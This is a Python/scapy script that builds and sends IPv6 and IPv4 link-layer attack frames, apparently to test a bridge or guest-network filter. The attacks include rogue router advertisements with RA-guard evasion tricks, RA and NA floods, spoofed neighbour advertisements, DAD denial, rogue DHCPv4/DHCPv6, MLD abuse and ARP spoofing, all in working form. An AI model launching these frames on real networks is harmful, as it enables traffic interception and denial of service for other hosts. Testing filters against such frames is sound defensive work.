#!/usr/bin/python3
"""Crafted IPv6 attack frames, sent from an attacker's namespace (THC-IPv6 / RFC 6105 classics).

Usage: send_attack.py IFACE KIND JSON_PARAMS
Params: src_mac, src_ll (attacker's own), src_ip (its own global address), victim_mac, victim_ip,
victim_ll, target (an address claimed or asked for), lladdr (a spoofed link-layer address),
dst_mac / dst_ip (where to send), router_mac, group (an MLD group), prefix (an RA's /64),
managed (the RA's M flag), ra_options (options before the PIO: "mtu", "rdnss", "dnssl"),
count, interval (seconds between frames). Prints one JSON line: {"sent": n}. Run with
Debian's /usr/bin/python3 (python3-scapy).
"""
import json
import random
import sys

from scapy.all import (  # noqa: E402
    ARP,
    DHCP6_Advertise,
    DHCP6_Reply,
    DHCP6OptClientId,
    DHCP6OptIA_NA,
    DHCP6OptIAAddress,
    DHCP6OptServerId,
    DUID_LL,
    IP,
    UDP,
    Ether,
    ICMPv6EchoRequest,
    ICMPv6MLQuery,
    ICMPv6MLQuery2,
    ICMPv6ND_NA,
    ICMPv6ND_NS,
    ICMPv6ND_RA,
    ICMPv6ND_Redirect,
    ICMPv6NDOptDNSSL,
    ICMPv6NDOptDstLLAddr,
    ICMPv6NDOptMTU,
    ICMPv6NDOptPrefixInfo,
    ICMPv6NDOptRDNSS,
    ICMPv6NDOptSrcLLAddr,
    ICMPv6NDOptUnknown,
    IPv6,
    IPv6ExtHdrDestOpt,
    IPv6ExtHdrFragment,
    IPv6ExtHdrHopByHop,
    PadN,
    RouterAlert,
    BOOTP,
    DHCP,
    fragment6,
    in6_getnsma,
    in6_getnsmac,
    inet_pton,
    sendp,
    socket,
)

iface, kind = sys.argv[1], sys.argv[2]
p = json.loads(sys.argv[3]) if len(sys.argv) > 3 else {}
src_mac = p.get("src_mac")
src_ll = p.get("src_ll", "fe80::bad")
prefix = p.get("prefix", "2001:db8:bad::")
count = int(p.get("count", 3))
interval = float(p.get("interval", 0))
ALL_NODES = "ff02::1"
ALL_NODES_MAC = "33:33:00:00:00:01"


def eth(dst=ALL_NODES_MAC, src=None):
    return Ether(src=src or src_mac, dst=dst)


def ra_option(name):
    if name == "mtu":
        return ICMPv6NDOptMTU(mtu=1500)
    if name == "rdnss":
        return ICMPv6NDOptRDNSS(dns=["2001:db8:ffff::53"], lifetime=600)
    if name == "dnssl":
        # "example.com": its label length 3 falls on an 8-byte boundary, like a PIO's type.
        return ICMPv6NDOptDNSSL(searchlist=["example.com"], lifetime=600)
    raise SystemExit("unknown RA option " + name)


def ra(pfx=prefix):
    message = ICMPv6ND_RA(routerlifetime=1800, M=int(bool(p.get("managed", 0))), O=0) / ICMPv6NDOptSrcLLAddr(lladdr=src_mac)
    for name in p.get("ra_options", []):
        message = message / ra_option(name)
    return message / ICMPv6NDOptPrefixInfo(prefix=pfx, prefixlen=64, validlifetime=86400, preferredlifetime=14400, L=1, A=1)


def nonce():
    return ICMPv6NDOptUnknown(type=14, len=1, data=bytes(random.getrandbits(8) for _ in range(6)))


def ns_to(dst_ip, options, src=None, target=None):
    """An NS from our own address to `dst_ip` (asking for it), with `options` in that order."""
    message = ICMPv6ND_NS(tgt=target or dst_ip)
    for option in options:
        message = message / option
    return eth(dst=p.get("dst_mac", in6_getnsmac(inet_pton(socket.AF_INET6, dst_ip)))) / base(dst=dst_ip, src=src or p.get("src_ip", src_ll)) / message


def mld_query(group="::", dst=ALL_NODES, dst_mac=ALL_NODES_MAC, version=1):
    specific = group != "::"
    query = ICMPv6MLQuery(mladdr=group, mrd=1000) if version == 1 else ICMPv6MLQuery2(mladdr=group, mrd=0 if specific else 1000)
    return eth(dst=dst_mac) / IPv6(src=src_ll, dst=dst, hlim=1) / IPv6ExtHdrHopByHop(options=[RouterAlert()]) / query


def base(dst=ALL_NODES, hlim=255, src=None):
    return IPv6(src=src or src_ll, dst=dst, hlim=hlim)


def dhcp6(message, sport):
    victim_duid = DUID_LL(lladdr=p["victim_mac"])
    server_duid = DUID_LL(lladdr=src_mac)
    return (
        eth(dst=p["victim_mac"])
        / base(dst=p.get("victim_ll", ALL_NODES))
        / UDP(sport=sport, dport=546)
        / message(trid=random.randint(0, 0xFFFFFF))
        / DHCP6OptServerId(duid=server_duid)
        / DHCP6OptClientId(duid=victim_duid)
        / DHCP6OptIA_NA(iaid=0, T1=60, T2=90, ianaopts=[DHCP6OptIAAddress(addr=prefix + "66", preflft=300, validlft=600)])
    )


def frames():
    if kind == "ra":
        return [eth() / base() / ra()]
    if kind == "ra-hbh":
        return [eth() / base() / IPv6ExtHdrHopByHop() / ra()]
    if kind == "ra-dstopt":
        return [eth() / base() / IPv6ExtHdrDestOpt() / ra()]
    if kind == "ra-many-ext":
        # THC's "flood_router26 -H -D": a long chain of large destination options.
        chain = IPv6ExtHdrHopByHop()
        for _ in range(8):
            chain = chain / IPv6ExtHdrDestOpt(options=[PadN(optdata=b"\x00" * 120)])
        return [eth() / base() / chain / ra()]
    if kind == "ra-frag":
        # RA split so the first fragment ends inside a large destination-options header and the
        # ICMPv6 header sits in the second fragment (RFC 7112's incomplete header chain).
        packet = base() / IPv6ExtHdrFragment() / IPv6ExtHdrDestOpt(options=[PadN(optdata=b"\x00" * 200)]) / ra()
        return [eth() / f for f in fragment6(packet, 120)]
    if kind == "ra-atomic-frag":
        return [eth() / base() / IPv6ExtHdrFragment(offset=0, m=0, id=random.randint(1, 2**31)) / ra()]
    if kind == "ra-flood":
        out = []
        for _ in range(count):
            pfx = "2001:db8:%x:%x::" % (random.randint(0x100, 0xFFFF), random.randint(0, 0xFFFF))
            out.append(eth() / base() / ra(pfx))
        return out
    if kind == "redirect":
        return [
            eth(dst=p["victim_mac"])
            / base(dst=p["victim_ll"])
            / ICMPv6ND_Redirect(tgt=src_ll, dst=p.get("redirect_dst", "2001:db8:ffff::1"))
        ]
    if kind == "dhcp6-advertise":
        return [dhcp6(DHCP6_Advertise, 547)]
    if kind == "dhcp6-reply":
        return [dhcp6(DHCP6_Reply, 547)]
    if kind == "dhcp6-reply-other-port":
        return [dhcp6(DHCP6_Reply, random.randint(1024, 65000))]
    if kind == "na-spoof":
        # Claim the victim's (or the router's) address with override: neighbour cache poisoning.
        target = p.get("target", p.get("victim_ip"))
        return [
            eth(dst=p.get("dst_mac", ALL_NODES_MAC))
            / base(dst=p.get("dst_ip", ALL_NODES))
            / ICMPv6ND_NA(tgt=target, R=0, S=0, O=1)
            / ICMPv6NDOptDstLLAddr(lladdr=src_mac)
        ]
    if kind == "na-flood":
        return [
            eth() / base() / ICMPv6ND_NA(tgt=prefix + "%x" % random.randint(1, 0xFFFF), O=1) / ICMPv6NDOptDstLLAddr(lladdr=src_mac)
            for _ in range(count)
        ]
    lladdr = p.get("lladdr", "52:54:00:00:10:0d")
    if kind == "ns-lla-after-nonce":
        return [ns_to(p["dst_ip"], [nonce(), ICMPv6NDOptSrcLLAddr(lladdr=lladdr)])]
    if kind == "ns-lla-after-two-nonces":
        return [ns_to(p["dst_ip"], [nonce(), nonce(), ICMPv6NDOptSrcLLAddr(lladdr=lladdr)])]
    if kind == "ns-lla-after-tlla":
        # THC's trick against a router: a TLLA of our own first, the victim's MAC as SLLA after it.
        return [ns_to(p["dst_ip"], [ICMPv6NDOptDstLLAddr(lladdr=src_mac), ICMPv6NDOptSrcLLAddr(lladdr=lladdr)])]
    if kind == "ns-lla-after-pio":
        option = ICMPv6NDOptPrefixInfo(prefix=prefix, prefixlen=64)
        return [ns_to(p["dst_ip"], [option, ICMPv6NDOptSrcLLAddr(lladdr=lladdr)])]
    if kind == "ns-many-options":
        # Four options, all harmless: more than the rules bound, so dropped all the same.
        return [ns_to(p["dst_ip"], [nonce(), nonce(), nonce(), ICMPv6NDOptSrcLLAddr(lladdr=src_mac)])]
    if kind == "na-lla-after-nonce":
        # Our own address, with someone else's MAC as the target link-layer address.
        own = p.get("src_ip", src_ll)
        message = ICMPv6ND_NA(tgt=own, R=0, S=0, O=1) / nonce() / ICMPv6NDOptDstLLAddr(lladdr=lladdr)
        return [eth(dst=p.get("dst_mac", ALL_NODES_MAC)) / base(dst=p.get("dst_ip", ALL_NODES), src=own) / message]
    if kind == "dad-deny":
        # Claims the target is taken: an NS from :: for it, as a node doing DAD sends (RFC 4862).
        target = p["target"]
        solicited = socket.inet_ntop(socket.AF_INET6, in6_getnsma(inet_pton(socket.AF_INET6, target)))
        frame = eth(dst=in6_getnsmac(inet_pton(socket.AF_INET6, target))) / IPv6(src="::", dst=solicited, hlim=255) / ICMPv6ND_NS(tgt=target)
        return [frame for _ in range(count)]
    if kind == "mld-query":
        # A general query, MLDv1 and MLDv2: the bridge takes the port for a multicast router's.
        return [mld_query(version=1), mld_query(version=2)]
    if kind == "mld-query-specific":
        # A group-specific query for the victim's group (MLDv1, and MLDv2 with a zero response
        # delay): the bridge cuts the group's membership timers to almost nothing.
        group = p["group"]
        mac = in6_getnsmac(inet_pton(socket.AF_INET6, group))
        return [mld_query(group=group, dst=group, dst_mac=mac, version=v) for v in (1, 2) for _ in range(count)]
    if kind == "spoof-router-mac":
        # Frames with the router's MAC as their source: a bridge that learns before the filter
        # moves the router's FDB entry to this port.
        return [eth(src=p["router_mac"], dst=ALL_NODES_MAC) / base() / ICMPv6EchoRequest() for _ in range(count)]
    if kind == "spoof-mac":
        # Our own addresses, but another guest's source MAC.
        return [eth(src=p["victim_mac"], dst=ALL_NODES_MAC) / base() / ICMPv6EchoRequest()]
    if kind == "spoof-ip":
        return [eth() / base(src=p["victim_ip"], dst=ALL_NODES) / ICMPv6EchoRequest()]
    if kind == "dhcp4-offer":
        return [
            eth(dst="ff:ff:ff:ff:ff:ff")
            / IP(src="192.0.2.66", dst="255.255.255.255")
            / UDP(sport=67, dport=68)
            / BOOTP(op=2, yiaddr="192.0.2.77")
            / DHCP(options=[("message-type", "offer"), "end"])
        ]
    if kind == "arp-spoof":
        return [eth(dst="ff:ff:ff:ff:ff:ff") / ARP(op=2, hwsrc=src_mac, psrc=p.get("victim_ipv4", "192.0.2.10"), pdst="192.0.2.1")]
    raise SystemExit("unknown attack kind " + kind)


packets = frames()
sendp(packets, iface=iface, verbose=False, inter=interval)
print(json.dumps({"sent": len(packets)}))
